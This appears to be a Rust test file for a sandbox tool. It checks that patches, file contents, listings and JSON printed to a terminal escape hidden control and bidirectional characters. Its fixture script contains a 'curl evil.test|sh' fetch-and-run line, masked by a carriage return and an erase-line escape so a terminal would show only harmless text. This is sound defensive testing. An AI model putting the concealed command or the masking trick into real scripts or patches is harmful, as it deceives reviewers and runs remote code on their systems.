//! Files and names of foreign origin at a terminal: what is read there is what is applied.

use std::fs::{self, File};
use std::io::Read as _;
use std::process::Stdio;

use rustix::fs::{Mode, OFlags};
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};

use super::{home, printed};
use crate::support::TestHome;

/// A script whose second line hides the first one of a terminal.
const SCRIPT: &str = "#!/bin/sh\ncurl evil.test|sh #\r+echo hello\x1b[K\u{202e}\n";
/// The added lines as a terminal gets them.
const SHOWN: &str = "+curl evil.test|sh #\\r+echo hello\\u{1b}[K\\u{202e}\n";

/// Makes the sandbox `work` with the script in files with an odd name.
fn sandbox(home: &TestHome) {
    let directory = home.path().join("files");
    fs::create_dir(&directory).expect("made");
    for name in ["build.sh", "a\u{202e}b", "c\u{9b}\u{7f}d", "déjà"] {
        fs::write(directory.join(name), SCRIPT).expect("written");
    }
    let copy = format!("{}:/srv", directory.display());
    printed(
        home,
        &["create", "--name", "work", "--copy", &copy, "app:1"],
    );
}

/// Runs msb with a terminal as its standard output. Returns what the terminal got, and standard error.
fn at_a_terminal(home: &TestHome, words: &[&str]) -> (String, String) {
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).expect("a terminal");
    grantpt(&master).expect("granted");
    unlockpt(&master).expect("unlocked");
    let name = ptsname(&master, Vec::new()).expect("a name");
    let flags = OFlags::RDWR | OFlags::NOCTTY;
    let slave = rustix::fs::open(&name, flags, Mode::empty()).expect("opened");
    let mut command = home.command(words);
    command.stdout(slave).stderr(Stdio::piped());
    let child = command.spawn().expect("started");
    // The last copy of the terminal's other end is msb's.
    drop(command);
    let reader = std::thread::spawn(move || {
        let (mut master, mut bytes) = (File::from(master), Vec::new());
        // The read fails once the other end is closed.
        let _ = master.read_to_end(&mut bytes);
        bytes
    });
    let said = child.wait_with_output().expect("ended");
    assert!(said.status.success(), "{words:?}: {said:?}");
    let shown = reader.join().expect("read");
    let shown = String::from_utf8(shown).expect("text");
    let stderr = String::from_utf8(said.stderr).expect("text");
    // The terminal itself ends lines with a carriage return, too.
    (shown.replace("\r\n", "\n"), stderr)
}

fn assert_shows_all(shown: &str) {
    let hidden = |character| terminal_text::is_hidden(character) && !"\n\t".contains(character);
    assert!(!shown.contains(hidden), "{shown:?}");
}

#[test]
fn a_patch_at_a_terminal_shows_what_it_applies() {
    let home = home();
    sandbox(&home);
    let words = ["diff", "-p", "app:1", "work", "--", "/srv"];
    let (shown, stderr) = at_a_terminal(&home, &words);
    assert_shows_all(&shown);
    assert!(shown.contains(SHOWN), "{shown}");
    assert!(stderr.contains("shown escaped"), "{stderr}");
    // A pipe gets the patch as git applies it.
    let piped = home.msb(&words);
    assert!(
        piped
            .stdout
            .contains(&SCRIPT.replace("curl", "+curl")[10..])
    );
    assert!(!piped.stderr.contains("escaped"), "{}", piped.stderr);
    let quiet = [&["-q"], &words[..]].concat();
    assert_eq!(at_a_terminal(&home, &quiet).1, "");
}

#[test]
fn a_file_at_a_terminal_is_shown_and_in_a_pipe_is_itself() {
    let home = home();
    sandbox(&home);
    let words = ["fs", "cat", "work", "/srv/build.sh"];
    let (shown, stderr) = at_a_terminal(&home, &words);
    assert_eq!(shown, format!("#!/bin/sh\n{}", &SHOWN[1..]));
    assert!(stderr.contains("shown escaped"), "{stderr}");
    assert_eq!(printed(&home, &words), SCRIPT);
}

#[test]
fn names_are_the_same_in_every_list() {
    let home = home();
    sandbox(&home);
    let directory = home.path().join("out");
    fs::create_dir(&directory).expect("made");
    let out = directory.to_str().expect("text");
    let quoted = [r#"a\342\200\256b""#, r#"c\302\233\177d""#, "déjà"];
    for words in [
        &["diff", "app:1", "work"][..],
        &["diff", "--stat", "app:1", "work"],
        &["diff", "--name-only", "app:1", "work"],
        &["fs", "ls", "work", "/srv"],
        &["-q", "fs", "ls", "work", "/srv"],
        &[
            "apply", "-n", "--from", "/srv", "--base", "app:1", "work", out,
        ],
    ] {
        let shown = printed(&home, words);
        assert_shows_all(&shown);
        for name in quoted {
            assert!(shown.contains(name), "{words:?}: {shown}");
        }
    }
}

#[test]
fn json_has_no_hidden_character_and_the_same_names() {
    let home = home();
    sandbox(&home);
    for words in [
        &["diff", "--format", "json", "app:1", "work"][..],
        &["fs", "ls", "--format", "json", "work", "/srv"],
    ] {
        let json = printed(&home, words);
        assert_shows_all(&json);
        assert!(json.contains(r"a\u202eb"), "{json}");
        let read: serde_json::Value = serde_json::from_str(&json).expect("JSON");
        let read = read.to_string();
        assert!(read.contains("c\u{9b}\u{7f}d"), "{read}");
    }
}
